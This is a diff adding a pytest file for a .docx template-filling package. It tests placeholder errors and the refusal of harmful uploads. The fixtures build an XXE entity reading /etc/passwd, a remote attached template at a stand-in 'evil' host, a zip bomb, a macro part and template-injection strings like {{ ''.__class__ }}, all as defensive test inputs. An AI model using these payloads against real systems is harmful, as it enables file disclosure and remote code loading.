@@ -1,0 +1,169 @@
+"""An office's own template: filled when it is sound, refused with the placeholder and its paragraph when not."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from collections.abc import Callable
+from datetime import date
+
+import pytest
+from docx import Document
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from papers.blank import blank
+from papers.document import document
+from papers.model import Letterhead, Paper, Section
+from papers.opened import Refused, looked_through
+from papers.template import BrokenTemplate, check
+
+PAPER = Paper(
+    "weekly", "BÁO CÁO", "Về một việc", date(2026, 11, 27), ("Mở đầu",), (Section("Mục", ("Lời",)),), ("Hết",)
+)
+KINDS = ("weekly", "dossier", "letter", "yearly", "publication")
+
+
+def template(*lines: str) -> bytes:
+    made = Document()
+    for line in lines:
+        made.add_paragraph(line)
+    out = io.BytesIO()
+    made.save(out)
+    return out.getvalue()
+
+
+def repacked(change: Callable[[str, bytes], bytes | None], **more: bytes) -> bytes:
+    """Our own template with its parts changed (None: left out) and further parts."""
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(blank("weekly"))) as old,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
+    ):
+        for name in old.namelist():
+            body = change(name, old.read(name))
+            if body is not None:
+                new.writestr(name, body)
+        for name, body in more.items():
+            new.writestr(name.replace("__", "/"), body)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize("kind", KINDS)
+def test_our_own_templates_are_sound(kind: str) -> None:
+    assert check(blank(kind), "a.docx") == ()
+
+
+def test_an_edited_template_is_filled() -> None:
+    mine = template(
+        "Của chúng tôi: {{ about }}",
+        "{%p for s in sections %}",
+        "{{ s.title }}",
+        "{%p endfor %}",
+        "{{ signer }}",
+    )
+    data = document(PAPER, Letterhead(signer="Mẫu"), mine, "mine.docx")
+    assert [p.text for p in Document(io.BytesIO(data)).paragraphs] == [
+        "Của chúng tôi: Về một việc",
+        "I. Mục",
+        "Mẫu",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("lines", "where", "placeholder"),
+    [
+        (("x", "{{ abuot }}"), "đoạn 2", "{{ abuot }}"),
+        (("{{ about",), "đoạn 1", "{{"),
+        (("{{ about | upper }}",), "đoạn 1", "{{ about | upper }}"),
+        (("{{ ''.__class__ }}",), "đoạn 1", "{{ ''.__class__ }}"),
+        (("{{ about.__class__ }}",), "đoạn 1", "{{ about.__class__ }}"),
+        (
+            ("{%p for line in openings %}", "{{ line }}", "{%p endfor %}"),
+            "đoạn 1",
+            "{%p for line in openings %}",
+        ),
+        (("{%p for line in opening %}", "{{ line }}"), "đoạn 1", "{% for … %}"),
+        (("{{ line }}", "{%p endfor %}"), "đoạn 2", "{%p endfor %}"),
+        (("{%p for s in sections %}", "{{ s.headng }}", "{%p endfor %}"), "đoạn 2", "{{ s.headng }}"),
+        (("{%p include 'x' %}",), "đoạn 1", "{%p include 'x' %}"),
+    ],
+)
+def test_a_broken_template_says_which_placeholder_and_where(
+    lines: tuple[str, ...], where: str, placeholder: str
+) -> None:
+    faults = check(template(*lines), "a.docx")
+    assert any(f.where.startswith(where) and f.placeholder == placeholder for f in faults), faults
+    with pytest.raises(BrokenTemplate):
+        document(PAPER, Letterhead(), template(*lines), "a.docx")
+
+
+def _xxe(name: str, body: bytes) -> bytes:
+    head = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    return body.replace(b"?>", b"?>" + head, 1) if name == "word/document.xml" else body
+
+
+def _outside(name: str, body: bytes) -> bytes:
+    far = b'<Relationship Id="z" Type="http://x/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>'
+    return (
+        body.replace(b"</Relationships>", far + b"</Relationships>")
+        if name.endswith("document.xml.rels")
+        else body
+    )
+
+
+@pytest.mark.parametrize(
+    ("data", "why"),
+    [
+        (b"no zip", "cannot be opened"),
+        (b"", "cannot be opened"),
+        (repacked(lambda n, b: b)[:2000], "cannot be opened"),
+        (repacked(lambda n, b: None if n == "word/document.xml" else b), "is missing"),
+        (repacked(lambda n, b: b, word__bomb=b"\0" * 60_000_000), "unpacks to far too much"),
+        (repacked(lambda n, b: b, word__vbaProject=b"x"), "macro"),
+        (repacked(_xxe), "DOCTYPE"),
+        (
+            repacked(lambda n, b: _xxe(n, b).decode().encode("utf-16") if n == "word/document.xml" else b),
+            "DOCTYPE",
+        ),
+        (repacked(_outside), "elsewhere"),
+    ],
+    ids=["no-zip", "empty", "cut", "other-kind", "bomb", "macro", "xxe", "xxe-utf-16", "fetched"],
+)
+def test_a_harmful_file_is_refused(data: bytes, why: str) -> None:
+    with pytest.raises(Refused, match=why):
+        check(data, "a.docx")
+
+
+@given(st.binary(max_size=400))
+@settings(max_examples=200, deadline=None)
+def test_bytes_are_refused_or_taken_and_nothing_else(data: bytes) -> None:
+    with pytest.raises(Refused):
+        looked_through(data, "a", "word/document.xml")
+
+
+TOKENS = (
+    "{{",
+    "}}",
+    "{%p ",
+    "%}",
+    "for ",
+    "s ",
+    "in ",
+    "sections",
+    "endfor",
+    "if ",
+    "about",
+    ".title",
+    " ",
+    "x",
+    "\n",
+)
+
+
+@given(st.lists(st.lists(st.sampled_from(TOKENS), max_size=8).map("".join), max_size=6))
+@settings(max_examples=150, deadline=None)
+def test_what_passes_the_check_can_be_filled(lines: list[str]) -> None:
+    mine = template(*lines)
+    if not check(mine, "a.docx"):
+        document(PAPER, Letterhead(), mine, "a.docx")
